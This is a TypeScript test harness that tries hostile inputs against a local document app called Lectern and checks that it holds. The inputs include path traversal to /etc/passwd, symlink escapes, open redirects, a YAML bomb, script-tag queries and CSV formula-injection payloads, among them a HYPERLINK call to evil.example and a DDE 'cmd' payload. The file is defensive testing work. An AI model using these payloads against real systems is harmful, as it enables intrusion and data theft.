/**
 * The attack catalogue of `npm run reliability`: classes of hostile input, each a table of cases
 * tried against a real service and HTTP server on a temp corpus. A case returns null when Lectern
 * held (no crash or stall, a clear message, nothing read or written outside the corpus, nothing
 * lost) and otherwise says what went wrong. The tests check the same promises one finding at a time;
 * this is the census, run on every input of a class.
 */
import fs from 'node:fs';
import path from 'node:path';
import { performance } from 'node:perf_hooks';
import { LAUNCH_HEADER, SESSION_HEADER, SESSION_PATH } from '../../app/common/browserSession';
import { emptyStore } from '../../app/core/annotations/storeFormat';
import { rawRequest } from '../../test/helpers/rawHttp';
import { startTestServer, type TestServer } from '../../test/helpers/server';
import { withTempDir } from '../../test/helpers/temp';
import { openSession, type Session } from './session';

export interface AttackClass {
  name: string;
  tried: number;
  held: number;
  failures: string[];
}

interface Case {
  label: string;
  /** Null when Lectern held; otherwise what went wrong. */
  run(): Promise<string | null>;
}

const HOSTILE = path.join(__dirname, '..', '..', 'test', 'fixtures', 'hostile');
/** How fast `status` must answer while anything else runs (issue 13). */
const STATUS_MS = 100;
/** How long any single hostile query or file may take, on a loaded machine. */
const BUDGET_MS = 5000;

async function tryAll(name: string, cases: Case[], log: (line: string) => void): Promise<AttackClass> {
  const c: AttackClass = { name, tried: 0, held: 0, failures: [] };
  for (const k of cases) {
    c.tried++;
    let problem: string | null;
    try {
      problem = await k.run();
    } catch (e) {
      problem = `threw ${(e as Error).message.slice(0, 120)}`;
    }
    if (problem) c.failures.push(`${k.label}: ${problem}`);
    else c.held++;
  }
  log(`${name}: ${c.held}/${c.tried} held${c.failures.length ? ` — ${c.failures.join('; ')}` : ''}`);
  return c;
}

/** Calls `method`; answers its time and reply, or the error's message (with its size, to catch echoes). */
async function timed(session: Session, method: string, req: unknown): Promise<{ ms: number; error: string | null }> {
  const t0 = performance.now();
  try {
    await session.call(method, req);
    return { ms: performance.now() - t0, error: null };
  } catch (e) {
    return { ms: performance.now() - t0, error: (e as Error).message };
  }
}

/** The slowest of `status` answers sampled while `work` runs. */
async function statusDuring(session: Session, work: Promise<unknown>): Promise<number> {
  let done = false;
  void work.finally(() => (done = true));
  let worst = 0;
  do {
    worst = Math.max(worst, (await timed(session, 'status', {})).ms);
    await new Promise((r) => setTimeout(r, 20));
  } while (!done);
  await work;
  return worst;
}

/** Resolves when a snapshot newer than `generation` is in place (reindex answers at once and builds in the background). */
async function reindexed(session: Session, generation: number): Promise<void> {
  const t0 = performance.now();
  for (;;) {
    const s = await session.call<{ generation: number; indexing: unknown }>('status', {});
    if (s.generation > generation && !s.indexing) return;
    if (performance.now() - t0 > 6 * BUDGET_MS) throw new Error('the re-index never finished');
    await new Promise((r) => setTimeout(r, 25));
  }
}

async function withServer<T>(prepareCorpus: ((dir: string) => void) | undefined, fn: (s: TestServer, session: Session) => Promise<T>): Promise<T> {
  const running = await startTestServer({ prepareCorpus, open: { saveDelayMs: 0, watch: false } });
  try {
    return await fn(running, await openSession(running.server.launchUrl));
  } finally {
    await running.close();
  }
}

function httpCases(s: TestServer, session: Session): Case[] {
  const port = s.server.port;
  const withSecret = session.headers();
  const refused = (label: string, opts: Parameters<typeof rawRequest>[1], statuses: number[]): Case => ({
    label,
    async run() {
      const res = await rawRequest(port, { timeoutMs: BUDGET_MS, ...opts });
      if (!statuses.includes(res.status)) return `answered ${res.status}`;
      if (res.headers['set-cookie']) return 'set a cookie';
      const location = res.headers.location;
      if (location && !location.startsWith('/')) return `redirected to ${location}`;
      if (location?.startsWith('//') || location?.startsWith('/\\')) return `redirected off-site to ${location}`;
      return null;
    },
  });
  const apiCall = (body: string, headers: Record<string, string> = withSecret) => ({
    path: '/api/library',
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...headers },
    body,
  });
  return [
    refused('foreign Host (DNS rebinding)', { ...apiCall('{}'), headers: { ...withSecret, Host: 'evil.example' } }, [403]),
    refused('cross-site Origin', { ...apiCall('{}'), headers: { ...withSecret, Origin: 'http://evil.example' } }, [403]),
    refused('another local port as Origin', { ...apiCall('{}'), headers: { ...withSecret, Origin: 'http://127.0.0.1:1' } }, [403]),
    refused('no secret', apiCall('{}', {}), [401]),
    refused('a wrong session', apiCall('{}', { [SESSION_HEADER]: 'x'.repeat(43) }), [401]),
    refused('the session as a cookie', apiCall('{}', { Cookie: Object.values(withSecret).map((v) => `lectern_token=${v}`)[0] }), [401]),
    refused('the launch secret as a session', apiCall('{}', { [SESSION_HEADER]: s.server.launchSecret }), [401]),
    refused('the launch secret traded twice', { path: SESSION_PATH, method: 'POST', headers: { [LAUNCH_HEADER]: s.server.launchSecret } }, [400, 401, 403]),
    refused('a made-up launch secret', { path: SESSION_PATH, method: 'POST', headers: { [LAUNCH_HEADER]: 'x'.repeat(32) } }, [400, 401, 403]),
    refused('invalid JSON', apiCall('{"query":'), [400]),
    refused('an unknown method', { ...apiCall('{}'), path: '/api/__proto__' }, [404]),
    refused('GET on the API', { path: '/api/library', headers: withSecret }, [405]),
    refused('a body over the limit', { ...apiCall(`{"x":"${'a'.repeat(40 * 1024 * 1024)}"}`) }, [400]),
    ...['/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc%2fpasswd', '/renderer/../../package.json', '/%00', '/.lectern/annotations.json'].map(
      (p) => refused(`path traversal ${p}`, { path: p, headers: withSecret }, [400, 404]),
    ),
    ...['/.//evil.example/', '//evil.example/', '/\\evil.example/', '/.//evil.example/?token=abc', '/%2F%2Fevil.example/'].map((p) =>
      refused(`open redirect ${p}`, { path: p }, [200, 400, 401, 404]),
    ),
  ];
}

function queryCases(session: Session): Case[] {
  const words = Array.from({ length: 1500 }, (_, i) => `word${i}`).join(' ');
  const queries: string[] = [
    'abcdefghijklmnop~5',
    'abcdefghijklmnopqrstuvwxyz~9',
    `"${words}"`,
    'a'.repeat(100_000),
    Array.from({ length: 2000 }, (_, i) => `t${i}*`).join(' '),
    '*',
    '***',
    '*~2',
    'title:',
    '~',
    '^',
    '+-',
    'speaker:',
    '"unclosed',
    '((((((((((',
    '\\',
    '.*.*.*.*.*.*.*.*.*.*.*.*.*.*.*.*!',
    '"a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a"',
    '__proto__',
    'constructor:prototype',
    '<script>alert(1)</script>',
    '\u0000\uffff\ud800',
  ];
  return queries.map((query) => ({
    label: `query ${JSON.stringify(query.length > 40 ? `${query.slice(0, 37)}…` : query)}`,
    async run() {
      const search = timed(session, 'search', { query });
      const worstStatus = await statusDuring(session, search);
      const { ms, error } = await search;
      if (ms > BUDGET_MS) return `took ${Math.round(ms)} ms`;
      if (worstStatus > STATUS_MS) return `status waited ${Math.round(worstStatus)} ms meanwhile`;
      if (error && error.length > 500) return `an error of ${error.length} characters (echoes the query?)`;
      if (error && /internal error/i.test(error)) return `an internal error: ${error.slice(0, 100)}`;
      return null;
    },
  }));
}

/** Files a careless user or a hostile web page could put in the corpus; each must load or be refused with a message naming it. */
const HOSTILE_FILES: [string, () => string | Buffer][] = [
  ['nested-list-3000.md', () => Array.from({ length: 3000 }, (_, i) => `${'  '.repeat(i)}- item\n`).join('')],
  ['nested-list-1000.md', () => Array.from({ length: 1000 }, (_, i) => `${'  '.repeat(i)}- item\n`).join('')],
  ['nested-quote.md', () => `${'>'.repeat(5000)} deep\n`],
  ['nested-emphasis.md', () => `${'*_'.repeat(20000)}x${'_*'.repeat(20000)}\n`],
  ['one-long-line.md', () => 'word '.repeat(2_000_000)],
  ['many-links.md', () => '[a](http://x) '.repeat(200_000)],
  ['binary.md', () => Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7919) % 256))],
  ['bad-date.md', () => '---\ntitle: Bad date\ndate: 2020-13-45\n---\n\nText.\n'],
  [
    'yaml-bomb.md',
    () =>
      `---\na: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\ntitle: bomb\n---\n\nText.\n`,
  ],
  ['too-large.md', () => Buffer.alloc(21 * 1024 * 1024, 'a')],
];

function fileCases(): Case[] {
  return HOSTILE_FILES.map(([name, make]) => ({
    label: name,
    async run() {
      return withServer(undefined, async (s, session) => {
        fs.writeFileSync(path.join(s.corpusDir, name), make());
        const t0 = performance.now();
        const before = await session.call<{ generation: number }>('status', {});
        await session.call('reindex', {});
        const worst = await statusDuring(session, reindexed(session, before.generation));
        const ms = performance.now() - t0;
        const lib = await session.call<{ documents: { id: string; path: string }[]; diagnostics: { file: string; message: string }[] }>('library', {});
        if (ms > 3 * BUDGET_MS) return `loading took ${Math.round(ms)} ms`;
        if (worst > STATUS_MS) return `status waited ${Math.round(worst)} ms while it loaded`;
        if (lib.documents.length < 3) return 'the other documents did not load';
        const loaded = lib.documents.some((d) => d.path === name);
        const named = lib.diagnostics.some((d) => d.file === name);
        if (!loaded && !named) return 'neither loaded nor reported';
        return null;
      });
    },
  }));
}

/** Links and ids that lead out of the corpus: nothing outside may be read or written. */
function jailCases(outside: string): Case[] {
  const secret = path.join(outside, 'secret.md');
  fs.writeFileSync(secret, '---\ntitle: Outside\n---\n\nOUTSIDE-THE-CORPUS\n');
  const readCase = (label: string, plant: (dir: string) => void): Case => ({
    label,
    run: () =>
      withServer(plant, async (_s, session) => {
        const lib = await session.call<{ documents: { id: string }[] }>('library', {});
        for (const d of lib.documents) {
          const doc = await session.call<{ text: string }>('document', { id: d.id });
          if (doc.text.includes('OUTSIDE-THE-CORPUS') || doc.text.includes('root:x:0')) return `shows ${d.id} from outside the corpus`;
        }
        return null;
      }),
  });
  const writeCase = (label: string, plant: (dir: string) => void, id: string): Case => ({
    label,
    run: () =>
      withServer(plant, async (_s, session) => {
        const before = fs.readdirSync(outside).length;
        const r = await timed(session, 'importCommit', { id, meta: { title: 'Planted' }, markdown: 'Planted text.' });
        if (fs.readdirSync(outside).length !== before) return 'wrote outside the corpus';
        if (!r.error) return 'answered as if written';
        return null;
      }),
  });
  return [
    readCase('a link to /etc/passwd', (dir) => fs.symlinkSync('/etc/passwd', path.join(dir, 'passwd.txt'))),
    readCase('a link to a file outside', (dir) => fs.symlinkSync(secret, path.join(dir, 'secret.md'))),
    readCase('a linked folder outside', (dir) => fs.symlinkSync(outside, path.join(dir, 'linkdir'))),
    writeCase('import into a linked folder', (dir) => fs.symlinkSync(outside, path.join(dir, 'linkdir')), 'linkdir/planted'),
    writeCase('import with ../', () => undefined, '../planted'),
    writeCase('import with an absolute id', () => undefined, `${outside}/planted`),
    writeCase('import over a link to a file outside', (dir) => fs.symlinkSync(path.join(outside, 'target.md'), path.join(dir, 'planted.md')), 'planted'),
    {
      label: 'tag store through a linked .lectern',
      run: () =>
        withServer(
          (dir) => fs.symlinkSync(outside, path.join(dir, '.lectern')),
          async (_s, session) => {
            const before = fs.readdirSync(outside).length;
            await timed(session, 'createTag', { name: 'Planted' });
            return fs.readdirSync(outside).length !== before ? 'wrote the store outside the corpus' : null;
          },
        ),
    },
  ];
}

/** Lectern's own files as a careless user, a crash or another program leaves them. */
function ownFileCases(): Case[] {
  const store = (dir: string) => path.join(dir, '.lectern', 'annotations.json');
  const seeded = (dir: string) => {
    fs.mkdirSync(path.join(dir, '.lectern'), { recursive: true });
    fs.writeFileSync(store(dir), JSON.stringify(emptyStore()));
  };
  return [
    {
      label: 'a read-only tag store',
      run: () =>
        withServer(
          (dir) => {
            seeded(dir);
            fs.chmodSync(store(dir), 0o444);
          },
          async (s, session) => {
            const before = fs.readFileSync(store(s.corpusDir), 'utf8');
            const r = await timed(session, 'createTag', { name: 'New' });
            if (!r.error || !/read-only/i.test(r.error)) return 'tagging was not refused with a message';
            if (fs.readFileSync(store(s.corpusDir), 'utf8') !== before) return 'the store was changed';
            return (fs.statSync(store(s.corpusDir)).mode & 0o777) === 0o444 ? null : 'its mode was changed';
          },
        ),
    },
    {
      label: 'a tag store with a byte order mark',
      run: () =>
        withServer(
          (dir) => {
            seeded(dir);
            fs.writeFileSync(store(dir), `\ufeff${fs.readFileSync(store(dir), 'utf8')}`);
          },
          async (_s, session) => ((await timed(session, 'createTag', { name: 'New' })).error ? 'the store was refused' : null),
        ),
    },
    {
      label: 'temp files of a dead writer in the cache',
      run: () =>
        withServer(
          (dir) => {
            fs.mkdirSync(path.join(dir, '.lectern', 'cache'), { recursive: true });
            fs.writeFileSync(path.join(dir, '.lectern', 'cache', 'index.json.tmp-999999-deadbeef'), 'partial');
          },
          async (s) => (fs.readdirSync(path.join(s.corpusDir, '.lectern', 'cache')).some((n) => n.includes('999999')) ? 'the temp file stayed' : null),
        ),
    },
    {
      label: 'a file name that is not valid UTF-8',
      run: () =>
        withServer(
          (dir) => fs.writeFileSync(Buffer.concat([Buffer.from(`${dir}/`), Buffer.from([0xff, 0xfe]), Buffer.from('.md')]), 'Text.'),
          async (_s, session) => {
            const lib = await session.call<{ documents: unknown[]; diagnostics: { message: string }[] }>('library', {});
            if (lib.documents.length !== 3) return 'the other documents did not load';
            return lib.diagnostics.some((d) => /UTF-8/.test(d.message)) ? null : 'not reported as a name that is not UTF-8';
          },
        ),
    },
  ];
}

/** Spreadsheet formulas in every exported CSV cell a corpus or a user controls. */
function csvCases(): Case[] {
  const payloads = ['=HYPERLINK("http://evil.example/"&A2,"Open")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
  return payloads.map((payload) => ({
    label: `CSV cell ${JSON.stringify(payload.slice(0, 16))}`,
    run: () =>
      withServer(
        (dir) =>
          fs.writeFileSync(
            path.join(dir, 'formula.md'),
            `---\ntitle: ${JSON.stringify(payload)}\nspeaker: ${JSON.stringify(payload)}\n---\n\n${payload} is the quote.\n`,
          ),
        async (s, session) => {
          const doc = await session.call<{ text: string }>('document', { id: 'formula' });
          const start = doc.text.indexOf(payload.trim());
          await session.call('tagRange', { docId: 'formula', start, end: start + payload.trim().length, newTags: [payload.trim()], note: payload });
          const file = await session.call<{ base64: string }>('exportTags', { format: 'csv' });
          const cells = Buffer.from(file.base64, 'base64')
            .toString('utf8')
            .split(/,|\r?\n/)
            .map((c) => c.replace(/^"/, ''));
          const bad = cells.find((c) => /^[=+\-@\t\r]/.test(c));
          return bad ? `a cell starts with ${JSON.stringify(bad.slice(0, 12))}` : null;
        },
      ),
  }));
}

const HOSTILE_DOCS = fs.readdirSync(HOSTILE).filter((f) => /\.(md|txt)$/.test(f));

/** The hostile corpus in one folder: every document loads and reads (that none of its payloads runs in the page is the e2e test's part). */
function hostileDocCases(session: Session): Case[] {
  return HOSTILE_DOCS.map((f) => ({
    label: f,
    async run() {
      const lib = await session.call<{ documents: { id: string; path: string }[] }>('library', {});
      const doc = lib.documents.find((d) => d.path === f);
      if (!doc) return 'not loaded';
      const view = await session.call<{ text: string }>('document', { id: doc.id });
      return view.text ? null : 'read as empty';
    },
  }));
}

export async function runAttacks(log: (line: string) => void): Promise<AttackClass[]> {
  const classes: AttackClass[] = [];
  classes.push(
    await withServer(undefined, async (s, session) => tryAll('HTTP requests (browser mode)', httpCases(s, session), log)),
    await withServer(undefined, async (_s, session) => tryAll('queries', queryCases(session), log)),
    await tryAll('files in the corpus', fileCases(), log),
    await withTempDir((outside) => tryAll('the corpus as a jail', jailCases(outside), log), 'lectern-outside-'),
    await tryAll('CSV formula injection', csvCases(), log),
    await tryAll("Lectern's own files", ownFileCases(), log),
    await withServer(
      (dir) => HOSTILE_DOCS.forEach((f) => fs.copyFileSync(path.join(HOSTILE, f), path.join(dir, f))),
      async (_s, session) => tryAll('hostile documents (test/fixtures/hostile), loaded and read', hostileDocCases(session), log),
    ),
  );
  return classes;
}
